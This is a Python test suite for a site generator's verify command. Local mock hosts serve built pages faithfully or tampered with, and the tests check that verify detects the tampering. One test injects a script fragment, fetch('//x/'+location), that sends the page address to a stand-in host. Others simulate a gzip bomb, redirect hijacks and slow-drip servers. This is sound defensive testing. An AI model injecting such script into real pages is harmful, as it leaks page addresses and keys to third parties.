"""Verify: a copy that differs in one byte is told, and one that changed the script is told apart."""

from __future__ import annotations

import gzip
import http.server
import re
import shutil
import threading
import tracemalloc
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from datetime import date
from pathlib import Path

import pytest

from generator.builder.context import OpenWorkspace, open_workspace
from generator.privacy.paths import is_sealed
from generator.publish.destination import Folder
from generator.publish.host import Host
from generator.publish.verify import Compared, State, verify
from tests.privacy.test_keyfile import PRIVATE, Practice, practice, with_key
from tests.support.practice import quietly

__all__ = ["practice"]
Tamper = Callable[[str, bytes], bytes]


def opened(practice: Practice) -> OpenWorkspace:
    return open_workspace(practice.root, date.today())


@pytest.fixture
def made(practice: Practice) -> Practice:
    with_key(practice)
    practice.run("build")
    return practice


@contextmanager
def a_host(
    site: Path, tamper: Tamper = lambda path, data: data, encoding: str = ""
) -> Iterator[str]:
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            file = site / self.path.lstrip("/")
            file = file / "index.html" if file.is_dir() else file
            if not file.is_file():
                self.send_error(404)
                return
            data = tamper(self.path, file.read_bytes())
            self.send_response(200)
            if encoding:
                data = gzip.compress(data)
                self.send_header("Content-Encoding", encoding)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *arguments: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()


def states(found: tuple[Compared, ...]) -> set[State]:
    return {one.state for one in found}


@pytest.mark.parametrize("encoding", ["", "gzip"])
def test_a_host_that_serves_what_was_built_is_found_in_order(made: Practice, encoding: str) -> None:
    with a_host(made.root / "site", encoding=encoding) as address:
        found = verify(opened(made), Host(address), quietly)
        said = made.run("verify", address)

    assert states(found) == {State.SAME}
    assert {"index.html", "404.html", "robots.txt"} < {one.path for one in found}
    assert made.code == 0
    assert "All 7 files are as they were built" in said


def test_a_script_changed_on_the_way_is_an_alarm(made: Practice) -> None:
    def tamper(path: str, data: bytes) -> bytes:
        return (
            data.replace(
                b'data-cfasync="false">', b"data-cfasync=\"false\">fetch('//x/'+location);"
            )
            if "/p/" in path
            else data
        )

    with a_host(made.root / "site", tamper) as address:
        found = verify(opened(made), Host(address), quietly)
        said = made.run("verify", address)

    assert [one.state for one in found if is_sealed(one.path)] == [State.FRAME_CHANGED]
    assert made.code == 1
    assert "script" in said


def test_a_single_byte_is_seen(made: Practice, tmp_path: Path) -> None:
    copy = tmp_path / "copy"
    shutil.copytree(made.root / "site", copy)
    assert states(verify(opened(made), Folder(copy), quietly)) == {State.SAME}
    page = next((copy / "p").glob("*/index.html"))
    data = bytearray(page.read_bytes())
    data[data.index(b'id="sealed">') + 100] ^= 1
    page.write_bytes(data)
    (copy / "robots.txt").unlink()

    assert states(verify(opened(made), Folder(copy), quietly)) == {
        State.SAME,
        State.CHANGED,
        State.MISSING,
    }


def test_a_dead_page_that_still_stands_is_told(made: Practice, tmp_path: Path) -> None:
    copy = tmp_path / "copy"
    shutil.copytree(made.root / "site", copy)
    made.run("revoke", str(made.root / "plans/sam.yml"), "--yes")
    with a_host(copy) as address:
        on_host = verify(opened(made), Host(address), quietly)
    in_folder = verify(opened(made), Folder(copy), quietly)

    assert State.STILL_THERE in states(on_host)
    assert State.STILL_THERE in states(in_folder)


@contextmanager
def a_stubborn_host(answer: Callable[[http.server.BaseHTTPRequestHandler], None]) -> Iterator[str]:
    """A host that answers as it likes."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self)
            with suppress(OSError):
                answer(self)

        def log_message(self, *arguments: object) -> None:
            pass

    asked: list[http.server.BaseHTTPRequestHandler] = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.socket.close()


def sent(
    to: http.server.BaseHTTPRequestHandler, code: int, data: bytes = b"", **headers: str
) -> None:
    to.send_response(code)
    for name, value in {"Content-Length": str(len(data)), **headers}.items():
        to.send_header(name.replace("_", "-"), value)
    to.end_headers()
    to.wfile.write(data)


def file_of(site: Path, to: http.server.BaseHTTPRequestHandler) -> bytes | None:
    file = site / to.path.lstrip("/")
    file = file / "index.html" if file.is_dir() else file
    return file.read_bytes() if file.is_file() else None


def test_a_host_that_is_down_is_told_in_one_line(made: Practice) -> None:
    with a_host(made.root / "site") as address:
        pass

    assert states(verify(opened(made), Host(address), quietly)) == {State.OUT_OF_REACH}
    said = made.run("verify", address)
    assert "out of reach for all" in said
    assert said.count("\n") == 1
    assert made.code == 1


@pytest.mark.parametrize("code", [401, 403, 429])
def test_a_host_that_turns_programs_away_is_told_in_one_line(made: Practice, code: int) -> None:
    agents = []

    def answer(to: http.server.BaseHTTPRequestHandler) -> None:
        agents.append(to.headers["User-Agent"])
        sent(to, code)

    with a_stubborn_host(answer) as address:
        said = made.run("verify", address)

    assert re.search(rf"turns this program away for all \d+ files: HTTP {code}", said)
    assert said.count("\n") == 1
    assert made.code == 1
    assert all("Handrail/" in agent and "urllib" not in agent for agent in agents)


@pytest.mark.parametrize("how", ["redirect", "refresh header", "refresh in the page"])
def test_a_host_leading_browsers_elsewhere_is_told_though_bytes_are_right(
    made: Practice, how: str
) -> None:
    with a_host(made.root / "site") as elsewhere:

        def answer(to: http.server.BaseHTTPRequestHandler) -> None:
            data = file_of(made.root / "site", to)
            if data is None:
                sent(to, 404)
            elif "/p/" not in to.path:
                sent(to, 200, data)
            elif how == "redirect":
                sent(to, 302, Location=elsewhere + to.path)
            elif how == "refresh header":
                sent(to, 200, data, Refresh=f"0; url={elsewhere}{to.path}")
            else:
                sent(
                    to,
                    200,
                    data.replace(
                        b"<head>", b'<head><meta http-equiv="refresh" content="0; url=/x">'
                    ),
                )

        with a_stubborn_host(answer) as address:
            said = made.run("verify", address)

    assert "the page of plans/sam.yml: leads to" in said
    assert made.code == 1


def test_a_redirect_to_another_page_of_the_same_host_is_followed(made: Practice) -> None:
    def answer(to: http.server.BaseHTTPRequestHandler) -> None:
        data = file_of(made.root / "site", to)
        if data is None:
            sent(to, 404)
        elif to.path.endswith("/") and len(to.path) > 1:
            sent(to, 301, Location=f"{to.path}index.html")
        else:
            sent(to, 200, data)

    with a_stubborn_host(answer) as address:
        assert "as they were built" in made.run("verify", address)


@pytest.mark.parametrize("body", ["404.html", "index.html", "its own", "its own with an ad"])
def test_a_host_answering_200_for_nothing_raises_no_alarm(made: Practice, body: str) -> None:
    made.run("revoke", str(made.root / "plans/sam.yml"), "--new-link", "--yes")
    (made.root / "plans/okafor.yml").write_text(PRIVATE.replace("5f0c", "aaaa"), "utf-8")
    made.run("build")
    [missing] = [
        one.path
        for one in verify(opened(made), Folder(made.root / "site"), quietly)
        if one.plan == "plans/okafor.yml"
    ]

    def answer(to: http.server.BaseHTTPRequestHandler) -> None:
        data = (
            None
            if missing.startswith(to.path.strip("/")) and to.path != "/"
            else file_of(made.root / "site", to)
        )
        if data is None and body.startswith("its own"):
            data = f"<p>Nothing here{to.path if body.endswith('ad') else ''}</p>".encode()
        elif data is None:
            data = (made.root / "site" / body).read_bytes()
        sent(to, 200, data)

    with a_stubborn_host(answer) as address:
        said = made.run("verify", address)

    assert "still stands" not in said
    assert "the page of plans/okafor.yml: is not" in said
    assert "plans/sam.yml" not in said


def test_a_store_that_forbids_what_it_does_not_have_raises_no_alarm(made: Practice) -> None:
    made.run("revoke", str(made.root / "plans/sam.yml"), "--new-link", "--yes")

    def answer(to: http.server.BaseHTTPRequestHandler) -> None:
        data = file_of(made.root / "site", to)
        sent(to, 403) if data is None else sent(to, 200, data)

    with a_stubborn_host(answer) as address:
        assert "as they were built" in made.run("verify", address)


@pytest.mark.slow
def test_a_bomb_of_nothing_ends_and_is_not_what_was_built(made: Practice) -> None:
    packed = gzip.compress(b"\0" * 24 * 1024 * 1024)

    def answer(to: http.server.BaseHTTPRequestHandler) -> None:
        sent(to, 200, packed * 20, Content_Encoding="gzip")

    tracemalloc.start()
    with a_stubborn_host(answer) as address:
        found = verify(opened(made), Host(address), quietly)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()

    assert State.SAME not in states(found)
    assert peak < 256 * 1024 * 1024


@pytest.mark.parametrize("slow", ["headers", "body"])
def test_a_host_that_drips_comes_to_an_end(made: Practice, slow: str) -> None:
    over = threading.Event()

    def answer(to: http.server.BaseHTTPRequestHandler) -> None:
        to.wfile.write(b"HTTP/1.1 200 OK\r\n" + (b"\r\n" if slow == "body" else b"X: "))
        while not over.wait(0.05):
            to.wfile.write(b"x")

    with a_stubborn_host(answer) as address:
        found = verify(opened(made), Host(address, file_s=0.5), quietly)
        over.set()

    assert states(found) == {State.OUT_OF_REACH}
    assert "no whole answer in 0.5 seconds" in found[0].why


def test_a_host_that_is_slow_for_every_file_is_given_up(made: Practice) -> None:
    host = Host("http://127.0.0.1:9", slow_s=0.0)
    host._slow = 1.0

    assert {one.why for one in verify(opened(made), host, quietly)} == {"it is too slow"}


@pytest.mark.parametrize(
    "garbage",
    [b"", b"no web host\r\n\r\n", b"HTTP/1.1 999999 x\r\n\r\n", b"HTTP/1.1 200 OK\r\n" * 300],
)
def test_what_is_no_web_host_is_told_without_a_traceback(made: Practice, garbage: bytes) -> None:
    with a_stubborn_host(lambda to: to.wfile.write(garbage) and None) as address:
        assert "out of reach" in made.run("verify", address)


@pytest.mark.parametrize(
    ("old", "new", "told"),
    [
        (
            b"</body>",
            b'<a href="/cdn-cgi/l/email-protection" class="__cf_email__">[email protected]</a></body>',
            "mail",
        ),
        (b"<script", b'<script type="a1b2c3d4e5f6a7b8-text/javascript"', "Rocket Loader"),
    ],
)
def test_hosts_that_rewrite_mail_addresses_or_scripts_are_named(
    made: Practice, old: bytes, new: bytes, told: str
) -> None:
    with a_host(
        made.root / "site", lambda path, data: data.replace(old, new) if "/p/" in path else data
    ) as address:
        said = made.run("verify", address)

    assert told in said
    assert "the page of plans/sam.yml" in said
    assert made.code == 1


@pytest.mark.parametrize(
    "address", ["https://x.example/p/0/#k=1", "https://x.example/?a", "https://", "http://["]
)
def test_only_the_address_of_a_site_is_asked(made: Practice, address: str) -> None:
    assert "address of the site alone" in made.run("verify", address)
    assert made.code == 2


def test_pages_are_named_by_their_plans_and_closed_ones_too(made: Practice, tmp_path: Path) -> None:
    copy = tmp_path / "copy"
    shutil.copytree(made.root / "site", copy)
    made.run("revoke", str(made.root / "plans/sam.yml"), "--new-link", "--yes")

    said = made.run("verify", str(copy))

    assert "the page of plans/sam.yml: is not there" in said
    assert "an earlier page of plans/sam.yml, p/" in said


def test_no_word_of_a_plan_is_in_what_is_said(made: Practice) -> None:
    with a_host(made.root / "site", lambda _path, data: data + b" ") as address:
        said = made.run("verify", address)

    assert "Feel at ease" not in said
    assert "Sam" not in said
